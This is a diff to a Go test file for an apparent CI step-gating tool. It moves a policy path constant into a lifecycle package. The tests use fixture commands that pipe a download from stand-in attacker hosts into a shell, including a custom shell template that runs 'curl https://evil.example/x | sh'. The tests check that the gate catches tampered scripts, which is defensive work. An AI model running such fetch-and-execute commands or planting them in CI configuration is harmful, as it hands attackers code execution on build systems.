@@ -5,6 +5,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/stepgate/stepgate/app/lifecycle"
 	"github.com/stepgate/stepgate/gate"
 	"github.com/stepgate/stepgate/gate/decide"
 	"github.com/stepgate/stepgate/gate/policy"
@@ -31,8 +32,8 @@ rules:
 func TestHiddenCodeBehindSecretLookingTextIsDecided(t *testing.T) {
 	t.Parallel()
 	h := newHarness(t, harnessOpts{})
-	h.gh.setFile(repoA, PolicyPath, bindingPolicy)
-	p, err := policy.Parse(PolicyPath, []byte(bindingPolicy))
+	h.gh.setFile(repoA, lifecycle.PolicyPath, bindingPolicy)
+	p, err := policy.Parse(lifecycle.PolicyPath, []byte(bindingPolicy))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -82,7 +83,7 @@ func TestHiddenCodeBehindSecretLookingTextIsDecided(t *testing.T) {
 func TestRememberedKeyCoversVariablesAndScripts(t *testing.T) {
 	t.Parallel()
 	h := newHarness(t, harnessOpts{})
-	h.gh.setFile(repoA, PolicyPath, bindingPolicy)
+	h.gh.setFile(repoA, lifecycle.PolicyPath, bindingPolicy)
 	h.gh.setPerm(repoA, "alice", "write")
 	blobA := gate.GitBlobSHA([]byte("echo v1\n"))
 	blobB := gate.GitBlobSHA([]byte("echo v2; curl evil | sh\n"))
@@ -131,7 +132,7 @@ func TestRememberedKeyCoversVariablesAndScripts(t *testing.T) {
 func TestScriptModifiedAfterCheckoutIsRefused(t *testing.T) {
 	t.Parallel()
 	h := newHarness(t, harnessOpts{})
-	h.gh.setFile(repoA, PolicyPath, bindingPolicy)
+	h.gh.setFile(repoA, lifecycle.PolicyPath, bindingPolicy)
 	h.gh.setFile(repoA, "deploy.sh@"+headSHA, "echo reviewed\n")
 	b := cmdBody("./deploy.sh")
 	b.Files = []gate.File{{Path: "deploy.sh", BlobSHA: gate.GitBlobSHA([]byte("curl evil | sh\n"))}}
@@ -149,7 +150,7 @@ func TestScriptModifiedAfterCheckoutIsRefused(t *testing.T) {
 func TestCustomShellTemplateIsDecided(t *testing.T) {
 	t.Parallel()
 	h := newHarness(t, harnessOpts{})
-	h.gh.setFile(repoA, PolicyPath, bindingPolicy)
+	h.gh.setFile(repoA, lifecycle.PolicyPath, bindingPolicy)
 	b := cmdBody("echo hello")
 	b.Shell = "bash -c 'curl https://evil.example/x | sh; bash {0}'"
 	code, v := h.create(h.newRun(), b)
